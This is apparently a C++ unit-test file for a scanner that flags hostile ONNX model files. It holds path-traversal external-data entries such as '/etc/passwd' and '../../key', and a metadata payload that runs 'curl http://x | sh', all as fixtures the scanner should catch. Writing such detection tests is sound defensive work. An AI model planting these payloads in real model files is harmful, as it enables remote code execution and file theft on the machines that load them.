#include "scan/onnx.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "scan/formats.h"
#include "scan/test_support.h"

namespace hauberk::scan {
namespace {

const std::string relu = wire_bytes(1, wire_bytes(4, "Relu"));
std::string onnx_model(const std::string& graph, const std::string& more = {}) {
  return wire_varint(1, 8) + wire_bytes(2, "test") + wire_bytes(7, relu + graph) + wire_bytes(8, wire_varint(2, 18)) +
         more;
}
std::string outside(const std::string& key = "location", const std::string& value = "../../key") {
  return wire_bytes(8, "w") + wire_bytes(13, wire_bytes(1, key) + wire_bytes(2, value));
}
Report onnx_scan(const std::string& data) { return scan_bytes(data, "m.onnx"); }
bool onnx_is(const std::string& data) {
  MemoryReader reader(as_bytes(data));
  return is_onnx(reader);
}

TEST(Onnx, data_outside_the_folder_is_found_wherever_a_tensor_may_be) {
  const auto attribute = [](const std::string& content) {
    return wire_bytes(1, wire_bytes(4, "X") + wire_bytes(5, content));
  };
  const auto tensor = outside();
  const std::string graphs[] = {
      wire_bytes(5, tensor),                             // initializer
      wire_bytes(15, wire_bytes(1, tensor)),             // values of a sparse one
      wire_bytes(15, wire_bytes(2, tensor)),             // its indices
      attribute(wire_bytes(5, tensor)),                  // a node's attribute: a tensor
      attribute(wire_bytes(10, tensor)),                 // one of several
      attribute(wire_bytes(22, wire_bytes(1, tensor))),  // a sparse one
      attribute(wire_bytes(23, wire_bytes(2, tensor))),  // one of several
      attribute(wire_bytes(6, wire_bytes(5, tensor))),   // a graph within
      attribute(wire_bytes(11, wire_bytes(5, tensor))),  // one of several
  };
  for (const auto& graph : graphs) {
    EXPECT_EQ(onnx_scan(onnx_model(graph)).verdict, ScanVerdict::malicious) << graph;
    EXPECT_EQ(onnx_scan(onnx_model("", wire_bytes(20, wire_bytes(1, graph)))).verdict, ScanVerdict::malicious) << graph;
  }
  const auto function = wire_bytes(7, wire_bytes(4, "X") + wire_bytes(5, wire_bytes(5, tensor)));
  EXPECT_EQ(onnx_scan(onnx_model("", wire_bytes(25, function))).verdict, ScanVerdict::malicious);
  EXPECT_EQ(onnx_scan(onnx_model("", wire_bytes(25, wire_bytes(11, wire_bytes(5, tensor))))).verdict,
            ScanVerdict::malicious);
}

TEST(Onnx, entries_of_external_data_are_judged_one_by_one) {
  struct Case {
    const char *key, *value;
    ScanVerdict verdict;
  };
  static const Case cases[] = {
      {"location", "weights.bin", ScanVerdict::review},
      {"location", "sub/weights.bin", ScanVerdict::review},
      {"location", "/etc/passwd", ScanVerdict::malicious},
      {"location", "a/../../b", ScanVerdict::malicious},
      {"location", "C:\\x", ScanVerdict::malicious},
      {"location", "..\\x", ScanVerdict::malicious},
      {"location", "http://x/y", ScanVerdict::malicious},
      {"location", "", ScanVerdict::malformed},
      {"offset", "4096", ScanVerdict::clean},
      {"offset", "-1", ScanVerdict::malformed},
      {"length", "99999999999999999999", ScanVerdict::malformed},
      {"length", "0x10", ScanVerdict::malformed},
      {"checksum", "abc", ScanVerdict::clean},
      {"basepath", "/x", ScanVerdict::review},
      {"__class__", "x", ScanVerdict::review},
  };
  for (const auto& c : cases)
    EXPECT_EQ(onnx_scan(onnx_model(wire_bytes(5, outside(c.key, c.value)))).verdict, c.verdict)
        << c.key << " " << c.value;
  // However many there are.
  std::string many = wire_bytes(8, "w");
  for (int i = 0; i < 100; ++i) many += wire_bytes(13, wire_bytes(1, "offset") + wire_bytes(2, "0"));
  EXPECT_EQ(onnx_scan(onnx_model(wire_bytes(5, many + outside()))).verdict, ScanVerdict::malicious);
  const auto context = [](const std::string& path) {
    return onnx_model(wire_bytes(1, wire_bytes(4, "EPContext") + wire_bytes(7, "com.microsoft") +
                                        wire_bytes(5, wire_bytes(1, "ep_cache_context") + wire_bytes(4, path))));
  };
  EXPECT_EQ(onnx_scan(context("part.bin")).verdict, ScanVerdict::clean);
  EXPECT_EQ(onnx_scan(context("../../part.bin")).verdict, ScanVerdict::malicious);
}

TEST(Onnx, is_what_has_a_version_and_a_graph) {
  EXPECT_TRUE(onnx_is(onnx_model("")));
  EXPECT_TRUE(onnx_is(wire_bytes(99, "x") + onnx_model("") + wire_bytes(77, "y")));  // loaders skip what is unknown
  EXPECT_TRUE(onnx_is(wire_varint(1, 8) + wire_bytes(25, wire_bytes(7, wire_bytes(4, "Relu")))));
  EXPECT_FALSE(onnx_is(wire_bytes(7, relu)));
  EXPECT_FALSE(onnx_is(wire_varint(1, 21) + wire_bytes(7, relu)));
  EXPECT_FALSE(onnx_is(wire_varint(1, 8) + wire_bytes(2, "test")));
  EXPECT_FALSE(onnx_is(wire_varint(1, 8) + wire_bytes(2, "test") + wire_bytes(7, "")));
  // Cut off, it is still nothing else.
  const auto whole = onnx_model("");
  for (std::size_t cut = 10; cut + 4 < whole.size(); ++cut)  // then the graph is whole
    EXPECT_NE(onnx_scan(whole.substr(0, cut)).verdict, ScanVerdict::clean) << cut;
}

TEST(Onnx, programs_in_metadata_are_found_at_every_level) {
  const std::string program = "import os; os.system('curl http://x | sh')";
  const auto entry = [&](std::uint64_t number) {
    return wire_bytes(number, wire_bytes(1, "k") + wire_bytes(2, program));
  };
  for (const auto& model :
       {onnx_model("", entry(14)), onnx_model(entry(16)), onnx_model(wire_bytes(1, wire_bytes(4, "Relu") + entry(9))),
        onnx_model(wire_bytes(5, wire_bytes(8, "w") + entry(16)))})
    EXPECT_EQ(onnx_scan(model).verdict, ScanVerdict::malicious);
}

}  // namespace
}  // namespace hauberk::scan
